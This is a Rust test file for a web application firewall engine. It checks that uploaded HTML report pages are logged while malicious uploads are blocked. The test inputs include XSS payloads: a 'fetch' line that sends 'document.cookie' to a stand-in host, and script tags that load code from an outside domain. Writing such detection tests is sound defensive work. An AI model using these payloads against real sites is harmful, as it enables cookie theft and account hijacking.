//! Files uploaded in multipart/form-data, through the whole engine: a whole HTML page (for an
//! HTML-to-PDF service, a template, a saved page) keeps its own scripts as a record, in every
//! window of a long one; a page calling a script sink, a bare script file, and the same page
//! sent as a plain form field are still blocked.
use http::{HeaderValue, Method};
use palisade_detect::Registry;
use palisade_engine::{Engine, EngineShared};
use palisade_types::{Action, PlaceKind, RequestView};
use std::path::Path;
use std::time::Instant;

fn engine() -> Engine {
    let yaml = "upstreams: { a: { servers: [\"127.0.0.1:1\"] } }\n";
    let cfg = palisade_config::from_str(yaml, Path::new("t.yaml"), Path::new(".")).unwrap();
    Engine::new(&cfg, &Registry::builtin(), EngineShared::local()).unwrap()
}

/// One part named `file`, with `filename` when given, holding `content`.
fn upload(filename: Option<&str>, content: &str) -> RequestView {
    let mut r = RequestView::new(
        Method::POST,
        "/forms/chromium/convert/html",
        "192.0.2.9".parse().unwrap(),
    );
    r.host = "pdf.example".to_string();
    r.headers.insert(
        http::header::CONTENT_TYPE,
        HeaderValue::from_static(
            "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        ),
    );
    r.headers.insert(
        http::header::USER_AGENT,
        HeaderValue::from_static("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36"),
    );
    let disposition = match filename {
        Some(f) => format!("form-data; name=\"file\"; filename=\"{f}\""),
        None => "form-data; name=\"file\"".to_string(),
    };
    r.body = format!(
        "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: {disposition}\r\n\
         Content-Type: text/html\r\n\r\n{content}\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"
    )
    .into();
    r
}

/// A report page as a dashboard exports it: a chart library from a CDN and the page's own
/// script drawing the chart; `rows` table rows make it as long as wanted.
fn page(rows: usize, extra_script: &str) -> String {
    let mut p = String::from(
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n\
         <title>Q3 sales</title>\n\
         <script src=\"https://cdn.jsdelivr.net/npm/chart.js@4.4.0/dist/chart.umd.min.js\"></script>\n\
         <style>body { font-family: sans-serif; } td { padding: 4px; }</style>\n</head>\n<body>\n\
         <h1>Q3 sales</h1>\n<canvas id=\"chart\" width=\"600\" height=\"300\"></canvas>\n<table>\n",
    );
    for i in 0..rows {
        p.push_str(&format!(
            "<tr><td>Region {i}</td><td>{}</td><td><a href=\"/regions/{i}\">details</a></td></tr>\n",
            i * 37 % 1000
        ));
    }
    p.push_str("</table>\n<script>\n");
    p.push_str(extra_script);
    p.push_str(
        "new Chart(document.getElementById('chart'), { type: 'bar', data: { labels: ['Jul', 'Aug', 'Sep'], \
         datasets: [{ label: 'Sales', data: [12, 19, 3] }] } });\n</script>\n</body>\n</html>\n",
    );
    p
}

fn action(e: &Engine, r: &RequestView) -> (Action, Vec<String>) {
    let v = e.inspect(r, Instant::now());
    let signals = v
        .signals
        .iter()
        .map(|s| format!("{} {:.2} {}", s.detector, s.confidence, s.place))
        .collect();
    (v.decision.action, signals)
}

#[test]
fn a_whole_page_uploaded_as_a_file_is_recorded() {
    let e = engine();
    // A short page (one window) and a long one (judged in several 8 KiB windows).
    for rows in [3, 400] {
        let p = page(rows, "");
        assert_eq!(p.len() > 8 * 1024, rows == 400);
        let (act, signals) = action(&e, &upload(Some("report.html"), &p));
        assert!(
            matches!(act, Action::Allow | Action::Log),
            "{rows} rows: {act:?} {signals:?}"
        );
        // The page's script is still seen: recorded at the file's place.
        let v = e.inspect(&upload(Some("report.html"), &p), Instant::now());
        assert!(
            v.signals
                .iter()
                .any(|s| s.detector == "xss" && s.place.kind == PlaceKind::File),
            "{rows} rows: {signals:?}"
        );
    }
}

#[test]
fn pages_with_sinks_bare_scripts_and_fields_are_blocked() {
    let e = engine();
    let cases = [
        // A sink in the page's script, in a short page and in the last window of a long one.
        upload(Some("report.html"), &page(3, "alert(document.domain);\n")),
        upload(
            Some("report.html"),
            &page(400, "fetch('//x.example/?c=' + document.cookie);\n"),
        ),
        // A script file or a fragment is no page.
        upload(Some("x.html"), "<script src=//x.example/a.js></script>"),
        upload(
            Some("x.html"),
            "<html><body><script src=//x.example/a.js></script></body></html>",
        ),
        // The same page in a field with no file name.
        upload(None, &page(3, "")),
    ];
    for r in &cases {
        let (act, signals) = action(&e, r);
        assert!(matches!(act, Action::Block { .. }), "{act:?} {signals:?}");
    }
}
